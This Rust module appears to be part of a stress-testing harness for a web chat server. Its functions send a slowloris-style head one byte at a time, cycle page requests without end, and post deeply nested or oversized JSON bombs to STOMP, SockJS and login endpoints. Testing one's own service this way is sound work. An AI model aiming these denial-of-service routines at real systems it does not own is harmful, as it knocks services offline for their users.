//! Attacks by requests: heads that do not end, pages without end, JSON that is dear to parse.

use serde_json::json;
use tokio::io::AsyncWriteExt as _;
use tokio::time::{Duration, sleep};

use super::{Attacker, Outcome, PAUSE, send, write_frame};

/// A head that arrives one byte at a time.
pub(super) async fn slow_head(attacker: &mut Attacker) -> Outcome<()> {
    let mut stream = attacker.place.open().await?;
    stream.write_all(b"GET /ws-chat HTTP/1.1\r\n").await?;
    loop {
        stream.write_all(b"x").await?;
        sleep(Duration::from_millis(500)).await;
    }
}

/// Pages as fast as they are answered.
pub(super) async fn pages(attacker: &mut Attacker) -> Outcome<()> {
    let mut stream = attacker.place.open().await?;
    for path in ["/", "/metrics", "/health", "/api/v1/openapi.json"]
        .iter()
        .cycle()
    {
        attacker
            .exchange(&mut stream, &format!("GET {path}"), b"")
            .await?;
        sleep(PAUSE).await;
    }
    Ok(())
}

/// JSON that nests as deeply, or lists as much, as fits.
pub(super) async fn json_bombs(attacker: &mut Attacker) -> Outcome<()> {
    const BYTES: usize = 60_000;
    let arrays = "[".repeat(BYTES);
    let objects = "{\"a\":".repeat(BYTES / 5);
    let numbers = format!("{{\"to\":[{}0]}}", "0,".repeat(BYTES / 2));
    let bombs = [arrays, objects, numbers];

    let mut session = attacker.connected().await?;
    let subscribe = b"SUBSCRIBE\nid:e\ndestination:/user/queue/errors\n\n\0";
    write_frame(&mut session.stream, subscribe).await?;
    let mut stream = attacker.place.open().await?;
    let path = format!("/ws-chat/000/{:016x}", rand::random::<u64>());
    attacker
        .exchange(&mut stream, &format!("POST {path}/xhr"), b"")
        .await?;
    for bomb in bombs.iter().cycle().take(60) {
        for destination in ["/app/chat.send", "/app/chat/message", "/app/auth.upgrade"] {
            write_frame(&mut session.stream, &send(destination, bomb)).await?;
        }
        let login = "POST /api/v1/auth/login";
        attacker
            .exchange(&mut stream, login, bomb.as_bytes())
            .await?;
        let many = json!(vec![""; 200_000]).to_string();
        let push = format!("POST {path}/xhr_send");
        attacker
            .exchange(&mut stream, &push, many.as_bytes())
            .await?;
        sleep(PAUSE * 4).await;
    }
    Ok(())
}
